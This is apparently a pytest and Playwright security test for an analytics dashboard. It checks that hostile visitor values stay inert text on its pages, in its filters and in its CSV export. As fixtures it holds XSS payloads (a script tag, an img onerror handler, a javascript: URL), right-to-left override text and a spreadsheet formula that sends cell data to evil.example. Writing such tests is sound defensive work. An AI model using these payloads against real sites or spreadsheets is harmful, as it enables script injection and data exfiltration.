"""Hostile values from visitors stay text on every page of the dashboard, and in a spreadsheet."""

import csv
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from dashboard_browser import Dashboard, Users, count_of, dashboard_with, open_filters, open_overview
from factories import visit
from playwright.sync_api import Browser, Page
from server_log import log_of
from test_growth_looks import overflow_of

HOSTILE = {
    "markup": """<script>window.owned = 1</script><img src=x onerror="window.owned = 1">"'></title></select>""",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "reversed": "\u202egnp.exe\u2066 \u05d0\u05d1\u05d2",
    "long": "long" * 2560,
    "address": "javascript:window.owned=1//",
    "spaces": "a\n\n\n\t  b",
}
"""Values that did not pass through the cleaning that all visits do, each for a journey of its own, which it names."""

SLOTS = ("utm_source", "utm_campaign", "utm_term", "referrer_host", "embed_origin", "embed_path")
PLACES = ("/growth", "/growth/journeys", *(f"/growth/journeys/{name}" for name in HOSTILE))
HOUR_MS = 3_600_000


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Dashboard]:
    """A dashboard that such visitors came to, an hour ago."""
    with dashboard_with(tmp_path_factory.mktemp("hostile")) as dashboard:
        began_ms = time.time_ns() // 1_000_000 - HOUR_MS
        with log_of(dashboard.server) as log:
            for name, value in HOSTILE.items():
                log.append(visit(name, began_ms, **dict.fromkeys(SLOTS, value)))
        yield dashboard


def look(page: Page) -> None:
    """Nothing has come to life, nothing stands outside of its element, and the page is as wide as it was."""
    page.wait_for_load_state()  # with its styles: without them, everything is wide
    assert page.evaluate("window.owned") is None
    assert page.locator("img, iframe, object, [onerror], script:not([src])").count() == 0
    strange: list[str] = page.evaluate("""() => [...document.querySelectorAll('a, form')]
        .map(element => element.getAttribute('href') ?? element.getAttribute('action'))
        .filter(address => !/^(#|\\/growth|\\/embed|\\/$)/.test(address))""")
    assert strange == []
    loose: list[str] = page.evaluate("""() => {
        const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT)
        const found = []
        while (texts.nextNode()) {
            const parent = texts.currentNode.parentElement
            const turns = /[\\u202e\\u2066]/.test(texts.currentNode.data)
            if (turns && !parent.closest('bdi, option')) found.push(parent.outerHTML)
        }
        return found
    }""")
    assert loose == []
    assert overflow_of(page) == []


def test_hostile_values_are_text_on_every_page_and_filter(window: Browser, hostile: Dashboard, users: Users) -> None:
    page = users.colleague(hostile, window)
    for place in PLACES:
        page.goto(place)
        for width in (390, 1280):
            page.set_viewport_size({"width": width, "height": 900})
            look(page)
    for name, value in HOSTILE.items():
        page.goto(f"/growth/journeys/{name}")
        assert page.locator("#from + dl bdi").first.text_content() == value


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_value_can_be_filtered_by_and_followed(
    name: str, browser: Browser, hostile: Dashboard, users: Users
) -> None:
    page = users.colleague(hostile, browser, viewport={"width": 390, "height": 900})
    open_overview(page)
    open_filters(page)
    select = page.get_by_role("combobox", name="Campaign")
    written = HOSTILE[name]
    value = page.evaluate(
        "given => [...document.querySelectorAll('#filter-campaign option')].map(o => o.value).find(v => v === given)",
        written,
    )
    assert value == written
    with page.expect_response(f"{hostile.url}/growth?*") as response:
        select.evaluate(
            """(select, given) => {
            select.value = given
            select.dispatchEvent(new Event('change', { bubbles: true }))
        }""",
            written,
        )
    assert response.value.ok
    page.locator("#part-filters .chips bdi").wait_for()
    assert page.locator("#part-filters .chips bdi").text_content() == written
    assert page.locator("#part-filters .chips a").first.evaluate("chip => chip.offsetHeight") < 48, "it is one line"
    look(page)
    page.locator("#part-figures .big a").first.click()
    page.locator(".count").wait_for()
    assert count_of(page) == "1"
    look(page)
    page.locator("table.journeys th a").click()
    page.locator("#from + dl").wait_for()
    assert page.locator("#from + dl bdi").first.text_content() == written
    look(page)


def test_in_a_spreadsheet_no_hostile_value_begins_a_formula(
    browser: Browser, hostile: Dashboard, users: Users, tmp_path: Path
) -> None:
    page = users.colleague(hostile, browser)
    page.goto("/growth/journeys")
    page.locator("details.export summary").click()
    with page.expect_download() as download:
        page.get_by_role("link", name="CSV").first.click()
    download.value.save_as(tmp_path / "journeys.csv")
    with (tmp_path / "journeys.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = {row["journey_id"]: row for row in csv.DictReader(file)}
    assert set(rows) == set(HOSTILE)
    cells = [cell for row in rows.values() for cell in row.values()]
    assert not [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "-", "@")]
    assert rows["formula"]["utm_source"].endswith(HOSTILE["formula"])
    assert rows["markup"]["utm_campaign"] == HOSTILE["markup"]
